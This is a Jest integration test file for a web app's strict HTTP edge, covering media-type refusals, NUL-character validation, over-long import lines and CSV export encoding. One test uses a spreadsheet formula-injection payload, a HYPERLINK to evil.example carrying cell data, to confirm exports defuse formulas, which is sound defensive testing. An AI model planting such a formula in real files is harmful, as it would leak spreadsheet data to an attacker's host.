/**
 * The HTTP edge, strict: a JSON route takes JSON only (415 otherwise, nothing read as empty), a
 * NUL character is a 400 naming the field (a row error in a file), a line without a line break
 * stops an import with a clear 422 instead of stalling the server, and CSV exports are UTF-8 with
 * a BOM and defused formulas. Over HTTP to the real app, on the dialect of the jest project.
 */
import Papa from 'papaparse';
import { describeDb, startTestApp, USERS, type Client, type TestApp } from '../support/harness.js';
import { binary, POS_HEADER, posRows, send, type Method } from '../support/strict-http.js';

describeDb('strict HTTP: media types, NUL characters, long lines, CSV exports', () => {
  let t: TestApp;
  let arrow: Client;
  let admin: Client;
  beforeAll(async () => {
    t = await startTestApp();
    arrow = await t.as(USERS.arrowhead);
    admin = await t.as(USERS.admin);
  });
  afterAll(() => t.close());

  const upload = (path: string, body: string, type = 'text/csv') => send(t, arrow, 'post', path, type, body);

  describe('a JSON route takes JSON only', () => {
    // A mapping the files below are read with (they name these headers), with an option set.
    const mapping = { mapping: { invoiceNumber: 'Invoice No', invoiceLine: 'Line' }, options: { decimalMark: '.' } };
    beforeAll(async () => {
      expect((await send(t, arrow, 'put', '/api/imports/mapping', 'application/json', JSON.stringify(mapping))).status).toBe(200);
    });

    /** What a refused request could have changed: the saved mapping, a program, a request's CRM link, the audit trail. */
    const snapshot = async (ids: { program: number; request: number }) => ({
      mapping: (await arrow.get('/api/imports/mapping')).body,
      programs: (await admin.get('/api/programs')).body,
      program: (await admin.get(`/api/programs/${ids.program}`)).body,
      request: (await admin.get(`/api/requests/${ids.request}/context`)).body,
      claims: (await admin.get('/api/claims?pageSize=200')).body.total,
      audit: (await admin.get('/api/audit?limit=1000')).body.items.map((e: { id: number }) => e.id),
    });

    it('answers 415 to every operation of /api/openapi.json with a JSON body sent as text/plain, and changes nothing', async () => {
      const doc = (await t.http.get('/api/openapi.json')).body as {
        paths: Record<string, Record<string, { requestBody?: { content: Record<string, unknown> } }>>;
      };
      const ops = Object.entries(doc.paths).flatMap(([path, item]) =>
        Object.entries(item)
          .filter(([, op]) => op.requestBody?.content['application/json'])
          .map(([method]) => ({ method: method as Method, path })),
      );
      expect(ops.map((o) => `${o.method} ${o.path}`)).toEqual(
        expect.arrayContaining([
          'put /api/imports/mapping',
          'patch /api/programs/{id}',
          'post /api/requests/{id}/crm-link',
          'post /api/claims',
        ]),
      );
      const ids = {
        program: (await admin.get('/api/programs')).body.items[0].id as number,
        request: (await admin.get('/api/requests')).body.items[0].id as number,
      };
      const claim = (await arrow.get('/api/claims')).body.items[0].id as number;
      const idFor = (path: string) =>
        path.startsWith('/api/programs') ? ids.program : path.startsWith('/api/requests') ? ids.request : claim;
      const before = await snapshot(ids);
      for (const { method, path } of ops) {
        const url = path.replace(/\{(\w+)\}/g, (_m, name: string) => String(name === 'id' ? idFor(path) : 1));
        // Each sent by a user the route is for (the refusal comes first anyway).
        const who = /^\/api\/(imports|claims|disputes)/.test(path) ? arrow : admin;
        const body = path === '/api/imports/mapping' ? JSON.stringify({ mapping: {}, options: {} }) : '{}';
        const res = await send(t, who, method, url, 'text/plain', body);
        expect({ op: `${method} ${path}`, status: res.status, code: res.body.code, type: res.headers['content-type'] }).toEqual({
          op: `${method} ${path}`,
          status: 415,
          code: 'UNSUPPORTED_MEDIA_TYPE',
          type: expect.stringMatching(/^application\/problem\+json/),
        });
      }
      expect(await snapshot(ids)).toEqual(before);
      expect(before.mapping.mapping).toEqual(mapping.mapping);
    });

    it('refuses a form, a JSON body in another charset, and a file on a JSON route; takes JSON, and a POST without a body', async () => {
      const program = (await admin.get('/api/programs')).body.items[0];
      const form = await send(t, admin, 'patch', `/api/programs/${program.id}`, 'application/x-www-form-urlencoded', 'name=x');
      expect([form.status, form.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
      const latin1 = await send(t, arrow, 'put', '/api/imports/mapping', 'application/json; charset=latin1', '{"mapping":{}}');
      expect([latin1.status, latin1.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
      const csv = await send(t, arrow, 'put', '/api/imports/mapping', 'text/csv', 'a,b\r\n1,2\r\n');
      expect([csv.status, csv.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
      expect((await arrow.get('/api/imports/mapping')).body.mapping).toEqual(mapping.mapping);
      expect((await send(t, arrow, 'put', '/api/imports/mapping', 'application/json; charset=utf-8', JSON.stringify(mapping))).status).toBe(
        200,
      );

      // A POST that sends no body passes, whatever Content-Type it names.
      const imported = await upload('/api/imports', [POS_HEADER, ...posRows('STRICT-NOBODY', 2)].join('\r\n'), 'application/octet-stream');
      expect(imported.status).toBe(201);
      const claimed = await send(t, arrow, 'post', `/api/imports/${imported.body.id}/claims`, 'text/plain');
      expect(claimed.status).toBe(201);
    });

    it('takes a file on the file routes as text/csv, text/tab-separated-values or application/octet-stream, not text/plain', async () => {
      const tsv = await upload(
        '/api/imports',
        [POS_HEADER, ...posRows('STRICT-TSV', 2)].join('\n').replace(/,/g, '\t'),
        'text/tab-separated-values',
      );
      expect(tsv.status).toBe(201);
      expect(tsv.body).toMatchObject({ status: 'completed', rowsAccepted: 2 });
      for (const path of ['/api/imports', '/api/claims/file']) {
        const plain = await upload(path, [POS_HEADER, ...posRows('STRICT-PLAIN', 2)].join('\n'), 'text/plain');
        expect({ path, status: plain.status, code: plain.body.code }).toEqual({ path, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' });
      }
    });
  });

  describe('a NUL character', () => {
    it('in a query filter or a JSON field is a 400 naming the field', async () => {
      const claim = (await arrow.get('/api/claims')).body.items[0].id as number;
      const cases: { who: Client; method: Method; path: string; body?: unknown; fields: string[] }[] = [
        { who: arrow, method: 'get', path: '/api/products?q=VS%00', fields: ['q'] },
        { who: arrow, method: 'get', path: '/api/accounts?type=end_customer&q=Casc%00ade', fields: ['q'] },
        { who: admin, method: 'get', path: '/api/audit?entityType=claim%00', fields: ['entityType'] },
        {
          who: arrow,
          method: 'put',
          path: '/api/imports/mapping',
          body: { mapping: { invoiceNumber: 'Inv\u0000#' } },
          fields: ['mapping.invoiceNumber'],
        },
        { who: arrow, method: 'post', path: `/api/claims/${claim}/notes`, body: { body: 'a\u0000b' }, fields: ['body'] },
        {
          who: arrow,
          method: 'post',
          path: '/api/claims',
          body: { debitMemoNumber: 'DM-\u0000', lines: [{ invoiceNumber: 'INV\u00001', endCustomerName: 'x' }] },
          fields: ['debitMemoNumber', 'lines.0.invoiceNumber'],
        },
      ];
      const mapping = (await arrow.get('/api/imports/mapping')).body;
      for (const c of cases) {
        const body = c.body === undefined ? undefined : JSON.stringify(c.body);
        const res = await send(t, c.who, c.method, c.path, 'application/json', body);
        expect({
          path: c.path,
          status: res.status,
          code: res.body.code,
          fields: res.body.errors?.map((e: { field: string }) => e.field),
        }).toEqual({
          path: c.path,
          status: 400,
          code: 'VALIDATION_FAILED',
          fields: c.fields,
        });
        expect(res.body.errors[0].message).toMatch(/NUL/);
      }
      expect((await arrow.get('/api/imports/mapping')).body).toEqual(mapping);
    });

    it('in a file cell the parser refuses is a row error naming the row, not a 500', async () => {
      // A NUL in a quantity: the parser reports the row; its error (which quotes the cell) is stored.
      const rows = posRows('STRICT-NULQ', 2);
      rows[1] = rows[1]!.replace(/,1$/, ',1\u0000');
      const res = await upload('/api/imports', [POS_HEADER, ...rows].join('\r\n'));
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ status: 'completed', rowsRead: 2, rowsAccepted: 1, rowsRejected: 1 });
      const errors = (await arrow.get(`/api/imports/${res.body.id}/errors`)).body.items as {
        rowNumber: number;
        column: string;
        raw: string;
      }[];
      expect(errors.map((e) => [e.rowNumber, e.column])).toEqual([[3, 'quantity']]);
      // Never stored as a NUL: SQLite ends a statement at one.
      expect(errors[0]!.raw).not.toContain('\u0000');
    });

    it('in a text cell is a row error naming the row and column, on both file routes', async () => {
      const rows = posRows('STRICT-NULT', 3);
      rows[1] = rows[1]!.replace('VS-MCU-32F4', 'VS-MCU\u000032F4');
      rows[2] = rows[2]!.replace('STRICT-NULT-', 'STRICT-\u0000NULT-');
      const res = await upload('/api/imports', [POS_HEADER, ...rows].join('\r\n'));
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ status: 'completed', rowsRead: 3, rowsAccepted: 1, rowsRejected: 2 });
      const errors = (await arrow.get(`/api/imports/${res.body.id}/errors`)).body.items as { rowNumber: number; column: string }[];
      expect(errors.map((e) => [e.rowNumber, e.column])).toEqual([
        [3, 'vendorPartNumber'],
        [4, 'invoiceNumber'],
      ]);
      const file = await upload(
        '/api/claims/file',
        ['Invoice No,Line,Invoice Date,Mfr Part,Qty,S&D Number', 'STRICT-NULF-1,1,2026-11-12,VS-MCU-32F4,1,S\u0000D-1'].join('\r\n'),
      );
      // its only row is that one: no claim, a 422 listing the row error (NO_CLAIM_LINES)
      expect(file.status).toBe(422);
      expect(file.body).toMatchObject({ code: 'NO_CLAIM_LINES', rowsRead: 1, rowsRejected: 1 });
      expect(file.body.errors).toEqual([{ field: 'row 2 authorizationNumber', message: expect.stringMatching(/^CONTROL_CHARACTER: /) }]);
    });
  });

  describe('a line without a line break', () => {
    it.each(['/api/imports', '/api/claims/file'])('of 4 MB stops %s with 422 LINE_TOO_LONG naming the line', async (path) => {
      const claimsBefore = (await arrow.get('/api/claims')).body.total;
      const res = await upload(path, `${POS_HEADER}\r\n${posRows('STRICT-LONG', 1)[0]},${'x'.repeat(4 * 1024 * 1024)}`);
      expect(res.status).toBe(422);
      expect(res.body).toMatchObject({ code: 'LINE_TOO_LONG', line: 2, maxLineBytes: 1024 * 1024 });
      expect(res.body.detail).toMatch(/line 2 .* longer than 1048576 bytes/);
      const job = await arrow.get(`/api/imports/${res.body.importId}`);
      expect(job.body).toMatchObject({ status: 'failed', rowsAccepted: 0 });
      expect((await arrow.get('/api/claims')).body.total).toBe(claimsBefore);
      expect((await t.http.get('/api/health')).status).toBe(200);
    });
  });

  describe('CSV exports', () => {
    it('are UTF-8 with a byte-order mark, and a cell starting with = comes back text, not a formula', async () => {
      const formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
      const csv = [
        'End Customer,Invoice No,Line,Invoice Date,Mfr Part,Qty',
        `Müller GmbH,STRICT-CSV-1,1,not-a-date,VS-MCU-32F4,1`,
        `"${formula.replace(/"/g, '""')}",STRICT-CSV-2,1,not-a-date,VS-MCU-32F4,1`,
      ].join('\r\n');
      const res = await upload('/api/imports', csv);
      expect(res.status).toBe(201);
      expect(res.body.rowsRejected).toBe(2);
      const report = await arrow
        .get(`/api/imports/${res.body.id}/errors.csv`)
        .buffer(true)
        .parse(binary as never);
      expect(report.status).toBe(200);
      expect(report.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      const bytes = report.body as Buffer;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text).toContain('Müller GmbH');
      // Read back as a spreadsheet would: the BOM is not part of the first header cell.
      const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
      expect(parsed[0]).toEqual(['row', 'column', 'code', 'message', 'raw']);
      const raw = parsed.slice(1).map((r) => r[4]);
      // The raw row is a CSV record: the formula cell is quoted there (it holds quotes and a comma), so
      // the report's cell starts with a quote, never with =.
      expect(raw).toEqual([
        `Müller GmbH,STRICT-CSV-1,1,not-a-date,VS-MCU-32F4,1`,
        `"${formula.replace(/"/g, '""')}",STRICT-CSV-2,1,not-a-date,VS-MCU-32F4,1`,
      ]);
      for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
    });
  });
});
